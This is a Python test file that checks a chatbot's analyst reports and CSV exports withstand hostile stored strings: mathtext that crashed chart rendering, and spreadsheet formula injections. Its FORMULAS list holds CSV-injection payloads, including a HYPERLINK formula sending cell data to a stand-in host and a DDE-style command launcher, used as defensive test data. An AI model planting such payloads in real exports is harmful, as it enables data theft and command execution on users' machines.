"""Attacks on the analysts' reports through stored data (issue 11, "Client-supplied data").

A client can get almost any string stored: as its language (an "unsupported language"),
in its messages, as a topic or a channel of rows written some other way. Such a string
must never break the reports (matplotlib reads "$...$" as mathematics and raised on
"$\\foo$", so /console/reports answered 500 and `python -m bot report` aborted for as
long as the row was kept) and must be inert in every CSV file (a cell starting with
"=", "+", "-", "@", tab or CR is a formula in a spreadsheet).

The HTTP attacks run against a real gateway process (`python -m bot serve`) and its
SQLite database; the properties seed a real migrated SQLite database with arbitrary
text (hypothesis) and run the report code and the console on it.
"""

from __future__ import annotations

import contextlib
import csv
import io
import itertools
import os
import subprocess
import sys
import uuid
from collections.abc import Iterator
from datetime import date, datetime, timedelta, timezone
from pathlib import Path
from zoneinfo import ZoneInfo

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import delete
from starlette.testclient import TestClient

from bot.app import create_app
from bot.insights.csv_safe import FORMULA_START, safe_cell, write_rows
from bot.insights.inbox import Inbox
from bot.insights.labels import ReportLabels
from bot.insights.log import InsightsLog
from bot.insights.render import write_report
from bot.insights.report import build_report
from bot.paths import PROJECT_ROOT
from bot.settings import Settings
from bot.store.db import Database, migrate
from bot.store.models import ContactRequest, Conversation, Feedback, Handoff, Message, UnresolvedQuestion
from tests.console_helpers import add_adviser, sign_in
from tests.helpers import running_gateway

MATHTEXT = r"$\foo$"
FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
            "\t=1+1", "\r=1+1"]
CSV_NAMES = ["volumes", "understanding", "unresolved_reasons", "handoffs", "handoff_outcomes", "contact_requests",
             "unsupported_languages", "feedback_topics", "feedback_ratings", "clusters"]
CSV_FILES = [f"{name}.csv" for name in CSV_NAMES]
TABLES = (Message, Handoff, ContactRequest, Conversation, UnresolvedQuestion, Feedback)


def utc_now() -> datetime:
    return datetime.now(timezone.utc)


def until_today() -> dict[str, str]:
    """Yesterday and today in Helsinki: a period with what was just stored."""
    today = datetime.now(ZoneInfo("Europe/Helsinki")).date()
    return {"since": (today - timedelta(days=1)).isoformat(), "until": today.isoformat()}


def seed_row_set(database: Database, strings: list[str], at: datetime) -> None:
    """One conversation, messages, unresolved questions, feedback, a handoff and a contact
    request, with `strings` (cycled) in every free string field: language, channel, text,
    topic, reason, status."""
    values = itertools.cycle(strings)
    cid = uuid.uuid4().hex
    with database.session() as session:
        session.add(Conversation(id=cid, channel=next(values), external_id=cid, language=next(values), state="bot",
                                 offered_payloads=[], created_at=at, updated_at=at))
        session.flush()
        for _ in range(2):
            session.add(Message(conversation_id=cid, direction="in", sender="user", text=next(values),
                                language=next(values), status="answered", created_at=at))
        for reason in ("unsupported_language", "nlu_fallback", "negative_feedback", next(values)):
            session.add(UnresolvedQuestion(created_at=at, conversation_key=cid, channel=next(values),
                                           language=next(values), text=next(values), reason=reason,
                                           detected_language=next(values), topic=next(values), label_status="new"))
        session.add(Feedback(conversation_key=cid, channel=next(values), language=next(values), kind="answer",
                             value=-1, topic=next(values), created_at=at))
        session.add(Feedback(conversation_key=cid, channel=next(values), language=next(values), kind="rating",
                             value=4, created_at=at))
        session.add(Handoff(conversation_id=cid, status=next(values), reason=next(values), topic=next(values),
                            language=next(values), channel=next(values), requested_at=at,
                            claimed_at=at + timedelta(seconds=90), outcome_topic=next(values)))
        session.add(ContactRequest(conversation_id=cid, channel=next(values), language=next(values),
                                   contact_type="phone", contact="+358401234567", topic=next(values), created_at=at))


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_inert(text: str) -> None:
    """No cell a spreadsheet would run: none starts with a formula character, unless it is a number."""
    for cell in csv_cells(text):
        assert not cell.startswith(FORMULA_START) or is_number(cell), cell


# --- over HTTP, against a real gateway process ------------------------------------------------------


@pytest.fixture(scope="module")
def gateway(tmp_path_factory: pytest.TempPathFactory):  # noqa: ANN201
    with running_gateway("http://127.0.0.1:9", tmp_path_factory.mktemp("reports-gateway")) as running:
        add_adviser(running.database_url, "aino", "Aino Analyytikko", "fi", role="analyst", ui="fi")
        yield running


@contextlib.contextmanager
def signed_in_client(gateway) -> Iterator[httpx.Client]:  # noqa: ANN001
    with httpx.Client(base_url=gateway.url, timeout=120, follow_redirects=True) as client:
        sign_in(client, "aino")
        yield client


def test_a_stored_mathtext_language_does_not_break_the_reports(gateway) -> None:  # noqa: ANN001
    """`$\\foo$` stored as a message's language, a conversation's and an unsupported language:
    the reports page (its default period, today included) and every CSV still answer."""
    database = Database(gateway.database_url)
    seed_row_set(database, [MATHTEXT], utc_now())
    with signed_in_client(gateway) as client:
        page = client.get("/console/reports", params=until_today())
        assert page.status_code == 200, page.text[-2000:]
        assert "$\\foo$" in page.text and page.text.count('src="data:image/png;base64,') == 5
        for name in CSV_NAMES:
            assert client.get(f"/console/reports/{name}.csv", params=until_today()).status_code == 200, name
        # The default period includes today too.
        default = client.get("/console/reports")
        assert default.status_code == 200 and "$\\foo$" in default.text


def test_stored_formulas_are_inert_in_every_csv_download(gateway) -> None:  # noqa: ANN001
    database = Database(gateway.database_url)
    seed_row_set(database, FORMULAS, utc_now())
    # A question labelled as a new topic whose text is a formula, for the inbox's new_topics.csv.
    item = InsightsLog(database, "reports-secret").record("formula", channel="webchat", reason="nlu_fallback",
                                                          language="fi", text=FORMULAS[0])
    Inbox(database).label(item, "new_topic", "aino", "formula_topic")
    with signed_in_client(gateway) as client:
        for name in CSV_NAMES:
            response = client.get(f"/console/reports/{name}.csv", params=until_today())
            assert response.status_code == 200, name
            assert_inert(response.text)
        reasons = client.get("/console/reports/unresolved_reasons.csv", params=until_today()).text
        assert "'=HYPERLINK(" in reasons  # kept, as text


def test_the_inbox_export_neutralises_formulas(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'inbox.db'}"
    migrate(url)
    database = Database(url)
    log = InsightsLog(database, "inbox-secret")
    inbox = Inbox(database)
    for text in FORMULAS:
        inbox.label(log.record(uuid.uuid4().hex, channel="webchat", reason="nlu_fallback", language="fi", text=text),
                    "new_topic", "@analyst")
    inbox.export(tmp_path / "out")
    exported = (tmp_path / "out" / "new_topics.csv").read_text(encoding="utf-8")
    assert_inert(exported)
    assert "'@analyst" in exported
    database.engine.dispose()


def test_the_report_command_survives_stored_mathtext_and_formulas(tmp_path: Path) -> None:
    """`python -m bot report` with no period (the last 30 days, today included)."""
    url = f"sqlite:///{tmp_path / 'cli.db'}"
    migrate(url)
    database = Database(url)
    seed_row_set(database, [MATHTEXT, *FORMULAS, "$x^{2}_{", "_hidden"], utc_now())
    database.engine.dispose()
    out = tmp_path / "report"
    result = subprocess.run([sys.executable, "-m", "bot", "report", "--out", str(out)], cwd=PROJECT_ROOT,
                            env={**os.environ, "DATABASE_URL": url, "PYTHONPATH": str(PROJECT_ROOT)},
                            capture_output=True, text=True, timeout=300)
    assert result.returncode == 0, result.stderr[-3000:]
    assert (out / "report.html").read_text(encoding="utf-8").count('src="data:image/png;base64,') == 5
    for name in CSV_FILES:
        assert_inert((out / name).read_text(encoding="utf-8"))


# --- properties: any stored string -----------------------------------------------------------------

MATHTEXT_CHARACTERS = "$\\^_{}"
stored_strings = st.one_of(
    st.text(max_size=40),  # any Unicode (lone surrogates cannot be stored)
    st.text(alphabet=MATHTEXT_CHARACTERS + "ab ", min_size=1, max_size=30),
    st.sampled_from([MATHTEXT, "$x^{2}_{", r"\$", "$$", "$", "_hidden", "", " ", *FORMULAS]),
    st.text(alphabet=st.characters(whitelist_categories=("Cc", "Cf", "Zl", "Zp", "Zs")), min_size=1, max_size=20),
    st.text(alphabet="ابتثجحخدذرزسشصضطظعغفقكلمنهويپچژگکی\u200f\u202e\u202b\u2067 ", min_size=1, max_size=40),
    st.builds(lambda chunk, times: chunk * times, st.text(min_size=1, max_size=8), st.integers(200, 1000)),
)
PERIOD = (date(2026, 1, 5), date(2026, 1, 11))
SEEDED_AT = datetime(2026, 1, 7, 10, 0, tzinfo=timezone.utc)


def test_reports_render_any_stored_string(tmp_path: Path) -> None:
    """Arbitrary text (mathtext characters, control and format characters, right-to-left
    text, very long strings, formulas) in every stored field: build_report, the charts,
    report.html and the CSVs (in Finnish and English), and the console's report page and
    CSV downloads, never fail; no CSV cell is a formula."""
    url = f"sqlite:///{tmp_path / 'property.db'}"
    database = Database(url)
    app = create_app(Settings(database_url=url, rasa_url="http://127.0.0.1:9"))
    add_adviser(url, "aino", "Aino", "fi", role="analyst", ui="fi")
    since, until = PERIOD
    query = {"since": since.isoformat(), "until": until.isoformat()}

    with TestClient(app, base_url="http://testserver") as client:
        sign_in(client, "aino")

        @settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow],
                  derandomize=False)
        @given(st.lists(stored_strings, min_size=1, max_size=8), st.sampled_from(["fi", "en"]))
        def check(strings: list[str], language: str) -> None:
            with database.session() as session:
                for table in TABLES:
                    session.execute(delete(table))
            seed_row_set(database, strings, SEEDED_AT)
            report = build_report(database, since, until)
            out = tmp_path / "out"
            for path in write_report(report, out, ReportLabels(language)):
                if path.suffix == ".csv":
                    assert_inert(path.read_text(encoding="utf-8"))
            page = client.get("/console/reports", params=query)
            assert page.status_code == 200, page.text[-2000:]
            download = client.get("/console/reports/clusters.csv", params=query)
            assert download.status_code == 200
            assert_inert(download.text)

        check()
    database.engine.dispose()


@settings(max_examples=300, deadline=None)
@given(st.lists(st.lists(st.one_of(st.text(max_size=30), st.sampled_from(FORMULAS), st.integers(), st.floats(),
                                   st.none()), max_size=6), max_size=6))
def test_csv_cells_are_never_formulas_and_keep_their_text(rows: list[list]) -> None:
    buffer = io.StringIO(newline="")
    write_rows(buffer, ["=header", "b"], rows)
    read = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert read[0] == ["'=header", "b"]
    for written, cells in zip(rows, read[1:], strict=True):
        for value, cell in zip(written, cells, strict=True):
            if value is None:
                assert cell == ""
            elif isinstance(value, str):
                text = value.replace("\x00", "\ufffd")
                assert cell == ("'" + text if text.startswith(FORMULA_START) else text)
                assert not cell.startswith(FORMULA_START)
            else:
                assert cell == str(value)  # numbers stay numbers, "-5" included
    assert safe_cell(-5) == -5 and safe_cell("-5") == "'-5"
